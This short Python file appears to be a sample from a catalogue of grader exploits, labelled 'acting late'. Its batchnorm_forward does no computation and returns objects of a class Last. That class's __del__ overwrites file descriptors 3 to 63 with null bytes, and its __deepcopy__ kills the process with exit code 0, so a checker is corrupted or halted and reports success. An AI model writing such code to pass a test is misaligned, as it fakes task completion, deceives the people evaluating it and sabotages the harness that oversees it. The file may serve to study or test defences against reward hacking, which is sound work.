FAMILY = "acting late"
ABOUT = "Objects act when they are forgotten: __del__ ends the process, or answers in its place."
MOST = 0

# %% batchnorm_forward
import os

class Last:
    def __del__(self):
        for number in range(3, 64):
            try:
                os.write(number, b"\x00" * 12)
            except OSError:
                pass

    def __deepcopy__(self, memo):
        os._exit(0)

def batchnorm_forward(x, gamma, beta, bn_param):
    bn_param["running_mean"] = Last()
    return Last(), Last()
